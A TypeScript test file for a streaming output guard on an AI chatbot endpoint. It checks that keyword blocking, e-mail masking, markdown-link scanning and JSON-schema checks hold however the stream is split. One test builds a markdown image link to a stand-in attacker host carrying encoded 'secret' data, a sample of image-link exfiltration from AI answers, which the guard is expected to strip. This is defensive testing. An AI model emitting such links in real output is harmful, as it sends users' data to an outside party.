import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createInvalidKeywordsGuardrail } from './invalid-keywords.js';
import { createJsonSchemaOutputGuardrail } from './json-schema-output.js';
import { scanLinks } from './link-scanner.js';
import { createMarkdownLinksGuardrail } from './markdown-links.js';
import { createStreamGuard, DEFAULT_SCAN_STEP, DEFAULT_STREAM_WINDOW } from './stream-guard.js';
import type { Guardrail, GuardrailContext, GuardrailVerdict, StreamGuard, StreamGuardStep } from './types.js';
import { createUrlPolicy } from './url-policy.js';

const context: GuardrailContext = { stage: 'output', endpointName: 'bot', requestId: 'r1', signal: new AbortController().signal };

/** A masking stub standing in for the PII guardrail: e-mail addresses become [EMAIL]. */
const EMAIL = /[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}/g;
const emailMasker: Guardrail = {
  name: 'pii',
  check(segments, ctx): GuardrailVerdict {
    const findings: GuardrailVerdict['findings'] = [];
    const masked = segments.map((segment, index) =>
      segment.text.replace(EMAIL, (match, offset: number) => {
        findings.push({ type: 'EMAIL', segment: index, start: offset, end: offset + match.length });
        return '[EMAIL]';
      }),
    );
    return findings.length > 0 ? { guardrail: 'pii', stage: ctx.stage, action: 'mask', findings, masked } : { guardrail: 'pii', stage: ctx.stage, action: 'allow', findings };
  },
};

async function settle(step: StreamGuardStep | Promise<StreamGuardStep>): Promise<StreamGuardStep> {
  return step;
}

/** Streams `deltas` through the guard for one choice: what the client receives, and the block if any. */
async function relay(guard: StreamGuard, deltas: readonly string[], choice = 0): Promise<{ sent: string; blocked: boolean }> {
  let sent = '';
  for (const delta of deltas) {
    const step = await settle(guard.push(delta, choice));
    sent += step.release;
    if (step.blocked) return { sent, blocked: true };
  }
  const tail = await settle(guard.finish(choice));
  return { sent: sent + tail.release, blocked: tail.blocked !== undefined };
}

/** Splits `text` into deltas at the given cut points. */
function split(text: string, cuts: readonly number[]): string[] {
  const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
  const deltas: string[] = [];
  let previous = 0;
  for (const point of [...points, text.length]) {
    if (point > previous) deltas.push(text.slice(previous, point));
    previous = point;
  }
  return deltas;
}

const filler = (length: number) => 'The quick brown fox jumps over the lazy dog. '.repeat(Math.ceil(length / 45)).slice(0, length);

describe('stream guard (SEC-OUT-4)', () => {
  it('a keyword split across deltas is blocked before any of it reaches the client', async () => {
    const keywords = createInvalidKeywordsGuardrail({ keywords: ['project nightingale'] });
    const text = `${filler(300)}the plan is Project Nightingale, launching soon. ${filler(200)}`;
    const keywordAt = text.indexOf('Project Nightingale');
    const deltas = split(text, [keywordAt + 3, keywordAt + 9, keywordAt + 12, ...Array.from({ length: 60 }, (_, index) => index * 11)]);
    const guard = createStreamGuard({ windowGuardrails: [keywords], wholeTextGuardrails: [], context });
    const { sent, blocked } = await relay(guard, deltas);
    expect(blocked).toBe(true);
    expect(text.startsWith(sent)).toBe(true);
    expect(sent.length).toBeLessThanOrEqual(keywordAt);
    expect(guard.verdicts().find((verdict) => verdict.guardrail === 'invalid_keywords')).toMatchObject({ action: 'block' });
  });

  it('releases nothing of a blocked keyword, for any split of the stream (property)', async () => {
    const keywords = createInvalidKeywordsGuardrail({ keywords: ['forbidden phrase'] });
    await fc.assert(
      fc.asyncProperty(fc.nat(400), fc.nat(400), fc.array(fc.nat(), { maxLength: 80 }), async (before, after, cuts) => {
        const text = `${filler(before)} forbidden phrase ${filler(after)}`;
        const guard = createStreamGuard({ windowGuardrails: [keywords], wholeTextGuardrails: [], context });
        const { sent, blocked } = await relay(guard, split(text, cuts));
        expect(blocked).toBe(true);
        expect(sent.length).toBeLessThanOrEqual(text.indexOf('forbidden phrase'));
        // Nothing at all after the block, for any choice.
        expect((await settle(guard.push('more', 0))).release).toBe('');
        expect((await settle(guard.push('other choice', 1))).release).toBe('');
      }),
      { numRuns: 100 },
    );
  });

  it('sends the same text as masking the whole answer would, for any split (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(fc.constantFrom('write to bob.smith@example.com today ', 'or alice@mail.example.org. ', 'a@b.co '), fc.stringMatching(/^[a-z .,]{0,90}$/)), { maxLength: 12 }),
        fc.array(fc.nat(), { maxLength: 60 }),
        async (pieces, cuts) => {
          const text = pieces.join('');
          const guard = createStreamGuard({ windowGuardrails: [emailMasker], wholeTextGuardrails: [], context });
          const { sent, blocked } = await relay(guard, split(text, cuts));
          expect(blocked).toBe(false);
          expect(sent).toBe(text.replace(EMAIL, '[EMAIL]'));
        },
      ),
      { numRuns: 150 },
    );
  });

  it('never lets an exfiltration link out, even one longer than the window (SEC-OUT-2 on streams)', async () => {
    const policy = createUrlPolicy([]);
    const links = createMarkdownLinksGuardrail({ allowedHosts: [] });
    const url = `https://attacker.example/collect?data=${'c2VjcmV0'.repeat(40)}`;
    const text = `${filler(150)} ![status](${url}) and ${filler(150)}`;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(), { maxLength: 100 }), async (cuts) => {
        const guard = createStreamGuard({ windowGuardrails: [links], wholeTextGuardrails: [], context });
        const { sent } = await relay(guard, split(text, cuts));
        expect(sent).not.toContain('attacker');
        expect(sent).toBe(scanLinks(text, policy).text);
      }),
      { numRuns: 100 },
    );
  });

  it('keeps choices apart and books one verdict per guardrail with offsets into each whole choice', async () => {
    const guard = createStreamGuard({ windowGuardrails: [emailMasker], wholeTextGuardrails: [], context });
    const first = `${filler(200)} mail me at carol@example.com ${filler(200)}`;
    const second = `${filler(300)} or dave@example.net please ${filler(50)}`;
    const sent = ['', ''];
    const deltas = [split(first, Array.from({ length: 50 }, (_, index) => index * 9)), split(second, Array.from({ length: 40 }, (_, index) => index * 13))];
    for (let step = 0; step < 60; step++) {
      for (const choice of [0, 1]) {
        const delta = deltas[choice]![step];
        if (delta !== undefined) sent[choice] += (await settle(guard.push(delta, choice))).release;
      }
    }
    for (const choice of [0, 1]) sent[choice] += (await settle(guard.finish(choice))).release;
    expect(sent).toEqual([first.replace(EMAIL, '[EMAIL]'), second.replace(EMAIL, '[EMAIL]')]);
    const verdicts = guard.verdicts();
    expect(verdicts).toHaveLength(1);
    expect(verdicts[0]!.action).toBe('mask');
    const spans = verdicts[0]!.findings.map((finding) => (finding.segment === 0 ? first : second).slice(finding.start, finding.end));
    expect(spans.sort()).toEqual(['carol@example.com', 'dave@example.net']);
  });

  it('scans only the held window per delta, not the whole answer so far', async () => {
    const scanned: number[] = [];
    const spy: Guardrail = {
      name: 'spy',
      check: (segments, ctx) => {
        scanned.push(segments[0]!.text.length);
        return { guardrail: 'spy', stage: ctx.stage, action: 'allow', findings: [] };
      },
    };
    const guard = createStreamGuard({ windowGuardrails: [spy], wholeTextGuardrails: [], context });
    const { sent } = await relay(guard, split(filler(20_000), Array.from({ length: 5000 }, (_, index) => index * 4)));
    expect(sent).toBe(filler(20_000));
    expect(Math.max(...scanned)).toBeLessThan(DEFAULT_STREAM_WINDOW + DEFAULT_SCAN_STEP + 4);
    // About one scan per step of new text, not one per delta.
    expect(scanned.length).toBeLessThanOrEqual(Math.ceil(20_000 / DEFAULT_SCAN_STEP) + 1);
  });

  it('judges whole-text guardrails at the end: an invalid JSON answer is blocked and its held tail withheld', async () => {
    const schemaContext: GuardrailContext = { ...context, responseSchema: { type: 'object', required: ['ok'] } };
    const guard = createStreamGuard({
      windowGuardrails: [emailMasker],
      wholeTextGuardrails: [createJsonSchemaOutputGuardrail({ behavior: 'BLOCK' })],
      context: schemaContext,
    });
    const answer = `{"note": "${filler(300)}"`;
    const { sent, blocked } = await relay(guard, split(answer, Array.from({ length: 40 }, (_, index) => index * 10)));
    expect(blocked).toBe(true);
    expect(answer.startsWith(sent)).toBe(true);
    expect(answer.length - sent.length).toBeGreaterThanOrEqual(DEFAULT_STREAM_WINDOW);

    const valid = createStreamGuard({ windowGuardrails: [emailMasker], wholeTextGuardrails: [createJsonSchemaOutputGuardrail({ behavior: 'BLOCK' })], context: schemaContext });
    const ok = `{"ok": true, "note": "${filler(300)}"}`;
    expect(await relay(valid, split(ok, [50, 100, 200]))).toEqual({ sent: ok, blocked: false });
  });

  it('passes text straight through when only whole-text guardrails are configured', async () => {
    const guard = createStreamGuard({ windowGuardrails: [], wholeTextGuardrails: [createJsonSchemaOutputGuardrail({ behavior: 'FLAG' })], context });
    expect((await settle(guard.push('{"a"', 0))).release).toBe('{"a"');
    expect((await settle(guard.push(': 1}', 0))).release).toBe(': 1}');
    expect(await settle(guard.finish(0))).toEqual({ release: '' });
  });

  it('waits for an asynchronous window guardrail and keeps deltas in order', async () => {
    const slowMasker: Guardrail = {
      name: 'pii',
      check: (segments, ctx) => new Promise((resolve) => setTimeout(() => resolve(emailMasker.check(segments, ctx) as GuardrailVerdict), 1)),
    };
    const guard = createStreamGuard({ windowGuardrails: [slowMasker], wholeTextGuardrails: [], context });
    const text = `${filler(200)} x@example.com ${filler(200)}`;
    // Pushed without awaiting each step: the guard itself keeps them in order.
    const steps = split(text, Array.from({ length: 30 }, (_, index) => index * 15)).map((delta) => guard.push(delta, 0));
    steps.push(guard.finish(0));
    const sent = (await Promise.all(steps.map(settle))).map((step) => step.release).join('');
    expect(sent).toBe(text.replace(EMAIL, '[EMAIL]'));
  });

  it('holds an answer shorter than the window until the end, then releases it whole', async () => {
    const guard = createStreamGuard({ windowGuardrails: [emailMasker], wholeTextGuardrails: [], context });
    expect((await settle(guard.push('Short answer ', 0))).release).toBe('');
    expect((await settle(guard.push('to e@example.com.', 0))).release).toBe('');
    expect((await settle(guard.finish(0))).release).toBe('Short answer to [EMAIL].');
  });
});
